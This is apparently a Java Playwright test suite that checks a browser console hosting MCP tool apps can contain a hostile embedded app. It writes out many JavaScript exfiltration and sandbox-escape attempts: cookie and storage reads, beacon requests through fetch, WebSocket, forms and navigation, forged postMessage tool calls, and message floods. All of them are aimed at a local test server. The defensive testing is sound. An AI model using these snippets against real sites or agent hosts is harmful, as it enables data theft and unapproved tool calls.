package dev.fairlead.browser;

import static com.microsoft.playwright.assertions.PlaywrightAssertions.assertThat;
import static org.assertj.core.api.Assertions.assertThat;

import com.microsoft.playwright.Frame;
import com.microsoft.playwright.Locator;
import com.microsoft.playwright.Page;
import com.microsoft.playwright.options.AriaRole;
import dev.fairlead.testkit.http.HttpServer;
import java.util.List;
import java.util.Map;
import java.util.regex.Pattern;
import java.util.stream.Collectors;
import org.assertj.core.api.SoftAssertions;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;

/** A tool's own interface that means harm: nothing leaves it, nothing is called unasked, and the page stays usable. */
@InBrowser
class HostileAppTest {
    private static final List<String> LOOKS_AROUND = List.of(
            "top.document.title",
            "top.location.href",
            "parent.document.title",
            "top.frames[0].document.title",
            "top.localStorage.length",
            "localStorage.length",
            "sessionStorage.length",
            "document.cookie || (() => { throw 'empty' })()");
    /** Each is a promise of what came of it; most of them would tell somebody else what the app has seen. */
    private static final List<String> REACHES_OUT = List.of(
            "fetch(beacon + '/fetch').then(() => 'out', () => 'in')",
            "fetch(beacon + '/no-cors', {mode: 'no-cors', method: 'POST', body: 'x'}).then(() => 'out', () => 'in')",
            "fetch(console_ + '/api/state', {credentials: 'include'}).then(() => 'out', () => 'in')",
            "new Promise(done => { const call = new XMLHttpRequest(); call.onload = () => done('out'); call.onerror ="
                    + " () => done('in'); call.open('GET', beacon + '/xhr'); call.send(); })",
            "new Promise(done => { try { const socket = new WebSocket(beacon.replace('http', 'ws') + '/socket');"
                + " socket.onopen = () => done('out'); socket.onerror = () => done('in'); } catch { done('in'); } })",
            "new Promise(done => { try { const source = new EventSource(beacon + '/events'); source.onopen = () =>"
                    + " done('out'); source.onerror = () => done('in'); } catch { done('in'); } })",
            "new Promise(done => { const image = new Image(); image.onload = () => done('out'); image.onerror = () =>"
                    + " done('in'); image.src = beacon + '/image.png'; })",
            "new Promise(done => { const script = document.createElement('script'); script.onload = () => done('out');"
                    + " script.onerror = () => done('in'); script.src = beacon + '/script.js';"
                    + " document.head.append(script); })",
            "new Promise(done => { const link = document.createElement('link'); link.rel = 'stylesheet'; link.onload ="
                    + " () => done('out'); link.onerror = () => done('in'); link.href = beacon + '/style.css';"
                    + " document.head.append(link); })",
            "new Promise(done => { try { const worker = new Worker(beacon + '/worker.js'); worker.onerror = () =>"
                    + " done('in'); } catch { done('in'); } })",
            "Promise.resolve(window.open(beacon + '/window') ? 'out' : 'in')",
            "import(beacon + '/module.js').then(() => 'out', () => 'in')");
    /** What leaves no trace in the app, only at whoever is reached. */
    private static final List<String> TRIES_WITHOUT_LOOKING = List.of(
            "navigator.sendBeacon(beacon + '/beacon', 'x')",
            "document.body.insertAdjacentHTML('beforeend', `<iframe src='${beacon}/frame'></iframe><object"
                    + " data='${beacon}/object'></object>`)",
            "document.body.insertAdjacentHTML('beforeend', `<form id=f method=post action='${beacon}/form'><input"
                    + " name=x></form>`); document.getElementById('f').submit()",
            "document.head.insertAdjacentHTML('beforeend', `<link rel=prefetch href='${beacon}/prefetch'><link"
                    + " rel=preconnect href='${beacon}'>`)",
            "document.body.style.background = `url(${beacon}/background.png)`",
            "top.location = beacon + '/top'",
            "top.location.replace(beacon + '/replace')",
            "parent.location = beacon + '/parent'",
            "const link = document.createElement('a'); link.href = beacon + '/link'; link.target = '_top';"
                    + " document.body.append(link); link.click()",
            "const blank = document.createElement('a'); blank.href = beacon + '/blank'; blank.target = '_blank';"
                    + " document.body.append(blank); blank.click()");

    private final AppServer server = new AppServer("evil");
    private final AppServer other = new AppServer("other");
    private HttpServer beacon;

    @BeforeEach
    void theAppRuns(Visitor visitor, Bench bench) {
        // It answers as those who steal would: whatever reaches it succeeds.
        beacon = bench.keep(HttpServer.start(
                0,
                exchange -> exchange.answer(
                        200, Map.of("Access-Control-Allow-Origin", "*", "Content-Type", "text/html"), "<p>got it")));
        visitor.watch().allow(beacon.origin()); // What it is asked for is judged by what it has heard.
        visitor.open().connects(json("evil", bench.serve(server.server())));
        visitor.hasConnected(json("other", bench.serve(other.server())), 2);
        visitor.choosesTool("evil-show").runs();
        assertThat(visitor.card("evil-show", "success")).isVisible();
        visitor.button("Agree and show it").click();
        Visitor.until(AppServer.shown(visitor), "window.begun");
    }

    @Test
    void nothingLeavesAnAppAndNothingIsSeenByIt(Visitor visitor, Bench bench) {
        var app = AppServer.shown(visitor);
        var soft = new SoftAssertions();
        for (var look : LOOKS_AROUND) {
            soft.assertThat(app.evaluate(
                            "() => { try { return 'saw ' + (%s); } catch { return 'nothing'; } }".formatted(look)))
                    .as(look)
                    .isEqualTo("nothing");
        }
        var given = Map.of("beacon", beacon.origin(), "console_", bench.origin());
        for (var reach : REACHES_OUT) {
            soft.assertThat(app.evaluate("({beacon, console_}) => " + reach, given))
                    .as(reach)
                    .isEqualTo("in");
        }
        // With a press of a person, too, with which a browser allows more.
        app.evaluate(
                "({beacon}) => { window.onPress = () => { window.pressed = true; window.open(beacon + '/pressed');"
                        + " try { top.location = beacon + '/pressed-top'; } catch { } }; }",
                given);
        app.getByRole(AriaRole.BUTTON, new Frame.GetByRoleOptions().setName("Press me"))
                .click();
        soft.assertThat(app.evaluate("() => window.pressed")).isEqualTo(true);
        // All at once, as an app that tries to leave may be ended for it.
        app.evaluate(
                "({beacon}) => { %s }"
                        .formatted(TRIES_WITHOUT_LOOKING.stream()
                                .map("{ try { %s } catch { } }"::formatted)
                                .collect(Collectors.joining(" "))),
                given);
        assertUsable(visitor);
        soft.assertThat(beacon.requests()).as("what somebody else heard").isEmpty();
        soft.assertThat(visitor.context().pages()).as("windows").hasSize(1);
        soft.assertAll();
    }

    /** The frame around an app is on another port of the console's host, to which browsers send the cookie. */
    @Test
    void neitherTheAppNorTheFrameAroundItHasWhatLetsThePageIn(Visitor visitor, Bench bench) {
        var around = AppServer.shown(visitor).parentFrame();
        assertThat(around.evaluate("JSON.stringify([document.cookie, Object.keys(localStorage)])"))
                .isEqualTo("[\"\",[]]");
        assertThat(around.evaluate("""
            ([console_, key]) => fetch(console_ + '/api/state', {credentials: 'include', headers: {'Fairlead-Key': key}})
              .then(() => 'out', () => 'in')\
            """, List.of(bench.origin(), visitor.key()))).isEqualTo("in");
        // As an app does that may reach some address of this machine: somebody agreed to it, or a rule was forgotten.
        around.evaluate("""
            beacon => new Promise(done => {
              const frame = document.createElement('iframe');
              frame.setAttribute('sandbox', 'allow-scripts allow-forms');
              frame.srcdoc = `<script>fetch('${beacon}/app', {mode: 'no-cors', credentials: 'include'})
                .finally(() => parent.postMessage('sent', '*'))<` + '/script>';
              addEventListener('message', event => event.data === 'sent' && done());
              document.body.append(frame); })\
            """, beacon.origin());
        assertThat(beacon.requests()).hasSize(1).noneMatch(request -> request.has("Cookie"));
    }

    @Test
    void anAppCannotGoElsewhereWithWhatItKnows(Visitor visitor) {
        var app = AppServer.shown(visitor);
        app.evaluate("beacon => { location.href = beacon + '/self?secret=what-the-app-was-told'; }", beacon.origin());
        assertUsable(visitor);
        assertThat(beacon.requests()).as("what somebody else heard").isEmpty();
    }

    @Test
    void nothingIsCalledUnasked(Visitor visitor) {
        var app = AppServer.shown(visitor);
        app.evaluate("""
            () => { window.ends = [];
              for (const name of ['evil-danger', 'evil-model', 'other-danger', 'no-such-tool', '', '__proto__', 7, null])
                ask('tools/call', {name, arguments: {}}).then(end => window.ends.push([String(name), end]));
              // As the page itself, as another app, as the frame between, and past that frame.
              const call = {jsonrpc: '2.0', id: 'forged', method: 'tools/call', params: {name: 'evil-danger', arguments: {}}};
              top.postMessage(call, '*');
              parent.postMessage({jsonrpc: '2.0', method: 'ui/notifications/sandbox-resource-ready', params: {html: '<h1>replaced</h1>'}}, '*');
              parent.postMessage({jsonrpc: '2.0', method: 'ui/notifications/sandbox-proxy-ready', params: {}}, '*');
              for (let i = 0; i < top.frames.length; i++) if (top.frames[i] !== parent) top.frames[i].postMessage(call, '*');
              for (const odd of [null, 1, 'text', [], {jsonrpc: '2.0'}, {jsonrpc: '2.0', method: 'tools/call'}, {jsonrpc: '2.0', id: {}, method: 'ping'}])
                parent.postMessage(odd, '*'); }\
            """);
        var asking = visitor.page()
                .getByRole(AriaRole.GROUP, new Page.GetByRoleOptions().setName(Pattern.compile("^Approval of")));
        assertThat(asking).hasCount(1);
        assertThat(asking).containsText("An app wants to call evil-danger on evil");
        // All but the one that waits were refused.
        Visitor.until(app, "window.ends.length === 7");
        assertThat((String) app.evaluate("JSON.stringify(window.ends)"))
                .doesNotContain("\"result\":{\"content\":[{\"type\":\"text\",\"text\":\"done\"");
        assertThat(server.ran()).isEmpty();
        assertThat(other.ran()).isEmpty();
        asking.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName(Pattern.compile("^Deny( D)?$")))
                .click();
        Visitor.until(app, "window.ends.length === 8");
        assertThat(server.ran()).isEmpty();

        // And what is asked for and allowed does run, once.
        app.evaluate("() => { window.ends = []; ask('tools/call', {name: 'evil-danger', arguments: {}}).then(end =>"
                + " window.ends.push(end)); }");
        asking.getByRole(AriaRole.BUTTON, new Locator.GetByRoleOptions().setName(Pattern.compile("^Allow once")))
                .click();
        Visitor.until(app, "window.ends.length === 1");
        assertThat((String) app.evaluate("JSON.stringify(window.ends)")).contains("done");
        assertThat(server.ran()).containsExactly("danger");
    }

    @Test
    void hugeAndManyMessagesDoNotStopThePage(Visitor visitor) {
        var app = AppServer.shown(visitor);
        app.evaluate("""
            () => { const huge = 'x'.repeat(30 << 20);
              parent.postMessage({jsonrpc: '2.0', method: 'notifications/message', params: {data: huge}}, '*');
              ask('ui/open-link', {url: 'https://example.invalid/' + 'y'.repeat(900)});
              ask('ui/update-model-context', {content: [{type: 'text', text: huge}]});
              ask('tools/call', {name: 'evil-danger', arguments: {huge}});
              parent.postMessage({jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: {width: 1e9, height: 1e9}}, '*');
              let sent = 0;
              const timer = setInterval(() => { for (let i = 0; i < 2000; i++) {
                  parent.postMessage({jsonrpc: '2.0', id: sent, method: 'ping', params: {}}, '*');
                  parent.postMessage({jsonrpc: '2.0', method: 'ui/notifications/size-changed', params: {height: 100 + sent++ % 500}}, '*'); }
                if (sent > 40000) { clearInterval(timer); window.flooded = true; } }, 10); }\
            """);
        Visitor.until(app, "window.flooded");
        var dialog = visitor.page().getByRole(AriaRole.DIALOG);
        assertThat(dialog).containsText("example.invalid");
        visitor.page().keyboard().press("Escape");
        assertThat(dialog).hasCount(0);
        assertThat(server.ran()).isEmpty();
        assertUsable(visitor);
    }

    /** Uses the page as somebody would who has had enough of the app. */
    private static void assertUsable(Visitor visitor) {
        var page = visitor.page();
        visitor.button("Close the app").click();
        assertThat(page.locator("iframe:visible")).hasCount(0);
        assertThat(visitor.card("evil-show", "success")).containsText("shown");
        page.getByLabel("Filter tools").fill("other-danger");
        assertThat(page.getByTestId("tool-list").getByRole(AriaRole.LINK)).hasCount(1);
        page.getByLabel("Filter tools").fill("");
        visitor.goTo("Traffic").goTo("Tools");
        assertThat(page.url()).contains("127.0.0.1");
    }

    private static String json(String name, String url) {
        return "{\"mcpServers\":{\"%s\":{\"url\":\"%s\"}}}".formatted(name, url);
    }
}
